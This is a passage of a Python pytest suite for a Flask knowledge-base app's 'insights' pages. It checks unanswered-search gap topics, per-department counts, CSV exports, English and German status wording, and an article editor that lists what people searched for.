    from kb.requests.records import Request

    for user in "xy":
        store.log_search(
            SearchEvent(query="printer toner", answered=False, user=user, ts=earlier_today())
        )
    asked = {"r1": "toner empty", "r2": "out of toner", "r3": "need new toner"}
    for who, text in asked.items():
        store.create_request(
            Request(requester=who, query=text, department="it", created=earlier_today())
        )
    gaps = insights_store(store)
    topic = gaps.save_topic(GapTopic(label="printer toner", department="it", centroid=np.ones(4)))
    gaps.save_gap_questions(
        GapQuestion(text=t, lang="en", model="m", vector=np.ones(4), topic_id=topic.id)
        for t in ("printer toner", *asked.values())
    )
    sign_in_as(client, "anna")
    body = client.get("/api/insights/requests").get_json()
    it = next(d for d in body["departments"] if d["department"] == "it")
    assert it["top_topics"] == [{"label": "", "requests": 3, "topic_id": topic.id}]
    csv_text = client.get("/api/insights/requests?format=csv").get_data(as_text=True)
    assert "toner" not in csv_text and "(hidden) (3)" in csv_text
    assert "printer toner" not in client.get("/insights/requests").get_data(as_text=True)


def test_gaps_answer_only_the_status_asked_for_in_json_and_csv(
    client: FlaskClient, logged: int
) -> None:
    token = sign_in_as(client, "anna")
    client.post(
        f"/api/insights/gaps/{logged}/assign",
        json={"department": "it"},
        headers={"X-CSRF-Token": token},
    )
    ids = {
        status: [
            t["id"] for t in client.get(f"/api/insights/gaps?status={status}").get_json()["topics"]
        ]
        for status in ("open", "assigned", "closed", "")
    }
    assert ids == {"open": [], "assigned": [logged], "closed": [], "": [logged]}
    rows = list(
        csv.DictReader(
            io.StringIO(
                client.get("/api/insights/gaps?format=csv&status=assigned").get_data(as_text=True)
            )
        )
    )
    assert [r["id"] for r in rows] == [str(logged)]
    empty = client.get("/api/insights/gaps?format=csv&status=open").get_data(as_text=True)
    assert empty.splitlines()[0].startswith("id,label") and len(empty.splitlines()) == 1
    refused = client.get("/api/insights/gaps?status=written")
    assert refused.status_code == 400
    assert refused.get_json()["error"]["details"]["field"] == "status"


def test_a_department_s_gaps_count_only_that_department_s_searches(
    client: FlaskClient, store: Store, logged: int
) -> None:
    """The filter picked the topics of a department but counted their searches
    and people in every department: a topic asked four times in HR and three
    times in IT read seven searches on HR's page and on IT's."""
    for user in ("f", "g", "h"):
        _failed_search(store, user, "parking permit", "it", earlier_today())
    gaps = insights_store(store)
    gaps.refresh()
    gaps.save_topic(replace(gaps.topic(logged), assigned_department="it"))
    sign_in_as(client, "anna")

    def topic(query: str) -> dict[str, Any]:
        (found,) = client.get(f"/api/insights/gaps{query}").get_json()["topics"]
        return found

    everywhere, hr, it = topic(""), topic("?department=hr"), topic("?department=it")
    assert (everywhere["searches"], everywhere["people"], everywhere["trend"]) == (7, 7, 7)
    assert (hr["searches"], hr["people"], hr["trend"]) == (4, 4, 4)
    assert (it["searches"], it["people"], it["trend"]) == (3, 3, 3)
    assert it["queries"] == ["parking permit"]
    rows = list(
        csv.DictReader(
            io.StringIO(client.get("/api/insights/gaps?department=it&format=csv").get_data(True))
        )
    )
    assert (rows[0]["searches"], rows[0]["people"]) == ("3", "3")
    page = client.get("/insights/gaps?department=it&hl=en").get_data(as_text=True)
    figures = page.split('class="gap-figures"', 1)[1].split("</dl>", 1)[0]
    assert "<dd>3</dd>" in figures and "<dd>7</dd>" not in figures


def test_the_gaps_page_says_why_a_gap_of_use_is_open_or_closed(
    client: FlaskClient, store: Store, logged: int
) -> None:
    """A gap whose searches were answered but not used is closed by its searches
    being used again; the page says what the last check found."""
    from kb.insights.records import GapMeasure, TopicStatus

    gaps = insights_store(store)
    checked = replace(
        gaps.topic(logged),
        measure=GapMeasure.USED,
        answered_before=1.0,
        answered_after=1.0,
        used_searches=12,
        used_after=0.25,
        checked_at=earlier_today(),
    )
    gaps.save_topic(checked)
    sign_in_as(client, "anna")
    (topic,) = client.get("/api/insights/gaps").get_json()["topics"]
    assert (topic["measure"], topic["used_searches"], topic["used_after"]) == ("used", 12, 0.25)
    page = client.get("/insights/gaps?hl=en").get_data(as_text=True)
    why = page.split('class="gap-check" data-measure="used">', 1)[1].split("</p>", 1)[0]
    assert "the answers were not used" in why and "Of its 12 searches of the last 7 days, 3" in why
    german = client.get("/insights/gaps?hl=de").get_data(as_text=True)
    assert "Von den 12 Suchen dazu aus den letzten 7 Tagen haben 3" in german
    gaps.save_topic(replace(checked, status=TopicStatus.CLOSED, used_searches=10, used_after=0.6))
    page = client.get("/insights/gaps?hl=en").get_data(as_text=True)
    why = page.split('class="gap-closed" data-measure="used">', 1)[1].split("</p>", 1)[0]
    assert "answered but not used; now 6 of its 10 searches of the last 7 days" in why
    rows = list(
        csv.DictReader(io.StringIO(client.get("/api/insights/gaps?format=csv").get_data(True)))
    )
    assert (rows[0]["measure"], rows[0]["used_searches"], rows[0]["used_after"]) == (
        "used",
        "10",
        "0.6",
    )


def _gap_of_use(store: Store, topic_id: int, searches: int, share: float | None) -> None:
    """The topic made a gap of use whose last check saw `searches` searches, `share` used."""
    from kb.insights.records import GapMeasure

    gaps = insights_store(store)
    gaps.save_topic(
        replace(
            gaps.topic(topic_id),
            measure=GapMeasure.USED,
            answered_before=1.0,
            answered_after=1.0,
            used_searches=searches,
            used_after=share,
            checked_at=earlier_today(),
        )
    )


def test_a_gap_of_use_with_no_recent_searches_says_none_were_measured(
    client: FlaskClient, store: Store, logged: int
) -> None:
    """With no search of its questions in the last 7 days the page read "Of
    its 0 searches of the last 7 days, 0 (0 %) opened a result": a measured
    failure where nothing was measured."""
    _gap_of_use(store, logged, searches=0, share=None)
    sign_in_as(client, "anna")
    page = client.get("/insights/gaps?hl=en").get_data(as_text=True)
    why = page.split('class="gap-check" data-measure="used">', 1)[1].split("</p>", 1)[0]
    assert "Of its 0 searches" not in why and "(0 %)" not in why
    assert "None of its questions was searched in the last 7 days" in why
    german = client.get("/insights/gaps?hl=de").get_data(as_text=True)
    assert "In den letzten 7 Tagen wurde keine ihrer Fragen gesucht" in german


@pytest.mark.parametrize(
    ("searches", "share", "english", "german"),
    [
        (
            1,
            1.0,
            "Of its 1 search of the last 7 days, 1 (100 %) opened a result or was voted helpful",
            "Von der einen Suche dazu aus den letzten 7 Tagen hat 1 (100 %) ein Ergebnis",
        ),
        (
            4,
            0.25,
            "Of its 4 searches of the last 7 days, 1 (25 %) opened a result or was voted helpful",
            "Von den 4 Suchen dazu aus den letzten 7 Tagen hat 1 (25 %) ein Ergebnis",
        ),
    ],
)
def test_a_gap_of_use_counts_its_searches_in_the_singular_and_plural(
    client: FlaskClient,
    store: Store,
    logged: int,
    searches: int,
    share: float,
    english: str,
    german: str,
) -> None:
    """The page read "Of its 1 searches": one search, and one used, are singular."""
    _gap_of_use(store, logged, searches=searches, share=share)
    sign_in_as(client, "anna")
    for lang, text in (("en", english), ("de", german)):
        page = client.get(f"/insights/gaps?hl={lang}").get_data(as_text=True)
        why = page.split('class="gap-check" data-measure="used">', 1)[1].split("</p>", 1)[0]
        assert text in why


def test_an_article_written_from_a_gap_lists_what_people_asked(
    client: FlaskClient, store: Store, logged: int
) -> None:
    """From a gap's "Write an article" the editor showed an empty form with
    the label as its title: the gap's other questions (its German twin, its
    wordings) were on the gaps page only."""
    from kb.accounts.service import add_user

    add_user(store, "hella", "content_owner", "hr")
    sign_in_as(client, "hella")
    gaps = client.get("/insights/gaps?hl=en").get_data(as_text=True)
    link = gaps.split('class="gap-write"><a class="button" href="', 1)[1].split('"', 1)[0]
    link = link.replace("&amp;", "&")
    assert f"gap={logged}" in link
    editor = client.get(link + "&hl=en").get_data(as_text=True)
    asked = editor.split('class="note gap-asked"', 1)[1].split("</aside>", 1)[0]
    assert "What people asked" in asked and "<li>parking permit</li>" in asked
    assert "private" not in asked and "salary" not in asked  # asked by too few people
    german = client.get(link + "&hl=de").get_data(as_text=True)
    assert "Was gefragt wurde" in german
    unknown = client.get("/manage/new?department=hr&gap=999999&hl=en").get_data(as_text=True)
    assert "gap-asked" not in unknown
